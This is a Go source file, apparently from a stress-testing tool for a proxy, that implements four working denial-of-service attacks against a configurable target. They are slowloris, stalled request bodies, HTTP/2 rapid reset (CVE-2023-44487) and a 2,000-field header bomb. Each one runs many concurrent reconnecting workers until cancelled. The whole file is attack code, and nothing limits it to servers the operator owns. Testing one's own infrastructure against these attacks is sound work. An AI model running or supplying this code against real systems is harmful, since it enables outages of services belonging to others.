package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// An attack runs against a target until ctx ends, returning a line on
// what it managed (connections made, requests sent).
type attack struct {
	name, what string
	run        func(ctx context.Context, t *target, o *options) string
}

func attacks() []attack {
	return []attack{
		{"slowloris", "connections that send a request head one field every 5 s, reopened when closed", slowloris},
		{"stalled-body", "POSTs announcing 1 MiB that send 1 MiB−1 and stall (retries configured), reopened when closed", stalledBody},
		{"rapid-reset", "HTTP/2 HEADERS + RST_STREAM in a loop (CVE-2023-44487)", rapidReset},
		{"header-bomb", "requests with 2,000 fields and a Connection header naming them all (~58 KB)", headerBomb},
	}
}

// keepOpen runs n workers that each loop on fn until ctx ends, starting
// them over rampUp so as not to flood the accept queue.
func keepOpen(ctx context.Context, n int, rampUp time.Duration, fn func(ctx context.Context)) {
	var wg sync.WaitGroup
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			select {
			case <-ctx.Done():
				return
			case <-time.After(rampUp * time.Duration(i) / time.Duration(n)):
			}
			for ctx.Err() == nil {
				fn(ctx)
				select { // back off a little before reconnecting
				case <-ctx.Done():
				case <-time.After(50 * time.Millisecond):
				}
			}
		}()
	}
	wg.Wait()
}

func dialCtx(ctx context.Context, addr string) (net.Conn, error) {
	d := net.Dialer{Timeout: 2 * time.Second}
	nc, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, err
	}
	context.AfterFunc(ctx, func() { nc.Close() })
	return nc, nil
}

func slowloris(ctx context.Context, t *target, o *options) string {
	var conns, closedByServer atomic.Int64
	keepOpen(ctx, o.slowlorisConns, 3*time.Second, func(ctx context.Context) {
		nc, err := dialCtx(ctx, t.http)
		if err != nil {
			return
		}
		defer nc.Close()
		conns.Add(1)
		if _, err := io.WriteString(nc, "GET / HTTP/1.1\r\nHost: a.example.com\r\n"); err != nil {
			return
		}
		for i := 0; ; i++ {
			select {
			case <-ctx.Done():
				return
			case <-time.After(5 * time.Second):
			}
			nc.SetWriteDeadline(time.Now().Add(time.Second))
			if _, err := fmt.Fprintf(nc, "X-Slow-%d: %d\r\n", i, i); err != nil {
				closedByServer.Add(1)
				return
			}
		}
	})
	return fmt.Sprintf("%d connections opened, %d found closed by the proxy", conns.Load(), closedByServer.Load())
}

func stalledBody(ctx context.Context, t *target, o *options) string {
	const size = 1 << 20
	body := bytes.Repeat([]byte("a"), size-1)
	var conns, sent atomic.Int64
	keepOpen(ctx, o.stalledConns, 3*time.Second, func(ctx context.Context) {
		nc, err := dialCtx(ctx, t.http)
		if err != nil {
			return
		}
		defer nc.Close()
		conns.Add(1)
		if _, err := fmt.Fprintf(nc, "POST / HTTP/1.1\r\nHost: a.example.com\r\nContent-Length: %d\r\n\r\n", size); err != nil {
			return
		}
		n, err := nc.Write(body)
		sent.Add(int64(n))
		if err != nil {
			return
		}
		io.Copy(io.Discard, nc) // stall until the proxy gives up
	})
	return fmt.Sprintf("%d connections opened, %d MiB of bodies sent", conns.Load(), sent.Load()>>20)
}

func rapidReset(ctx context.Context, t *target, o *options) string {
	var streams, conns atomic.Int64
	keepOpen(ctx, o.resetConns, 0, func(ctx context.Context) {
		nc, err := dialCtx(ctx, t.h2c)
		if err != nil {
			return
		}
		defer nc.Close()
		conns.Add(1)
		fr := http2.NewFramer(nc, nc)
		if _, err := io.WriteString(nc, http2.ClientPreface); err != nil {
			return
		}
		if fr.WriteSettings() != nil {
			return
		}
		var wmu sync.Mutex
		go func() { // read and discard, acknowledging SETTINGS
			for {
				f, err := fr.ReadFrame()
				if err != nil {
					nc.Close()
					return
				}
				if sf, ok := f.(*http2.SettingsFrame); ok && !sf.IsAck() {
					wmu.Lock()
					fr.WriteSettingsAck()
					wmu.Unlock()
				}
			}
		}()
		var buf bytes.Buffer
		enc := hpack.NewEncoder(&buf)
		for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "a.example.com"}, {":path", "/"}} {
			enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true})
		}
		blk := buf.Bytes()
		for id := uint32(1); id < 1<<30 && ctx.Err() == nil; id += 2 {
			wmu.Lock()
			nc.SetWriteDeadline(time.Now().Add(2 * time.Second))
			err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: blk, EndStream: true, EndHeaders: true})
			if err == nil {
				err = fr.WriteRSTStream(id, http2.ErrCodeCancel)
			}
			wmu.Unlock()
			if err != nil {
				return
			}
			streams.Add(1)
		}
	})
	return fmt.Sprintf("%d streams opened and reset on %d connections", streams.Load(), conns.Load())
}

func headerBomb(ctx context.Context, t *target, o *options) string {
	var b strings.Builder
	b.WriteString("GET / HTTP/1.1\r\nHost: a.example.com\r\nConnection: keep-alive")
	for i := 0; i < 2000; i++ {
		fmt.Fprintf(&b, ",x-b%d", i)
	}
	b.WriteString("\r\n")
	for i := 0; i < 2000; i++ {
		fmt.Fprintf(&b, "X-B%d: v\r\n", i)
	}
	b.WriteString("\r\n")
	request := b.String()
	var sent, answered atomic.Int64
	keepOpen(ctx, o.bombClients, 0, func(ctx context.Context) {
		nc, err := dialCtx(ctx, t.http)
		if err != nil {
			return
		}
		defer nc.Close()
		nc.SetDeadline(time.Now().Add(10 * time.Second))
		if _, err := io.WriteString(nc, request); err != nil {
			return
		}
		sent.Add(1)
		buf := make([]byte, 12)
		if n, _ := io.ReadFull(nc, buf); n == 12 {
			answered.Add(1)
		}
	})
	return fmt.Sprintf("%d requests sent, %d answered (%d bytes each)", sent.Load(), answered.Load(), len(request))
}
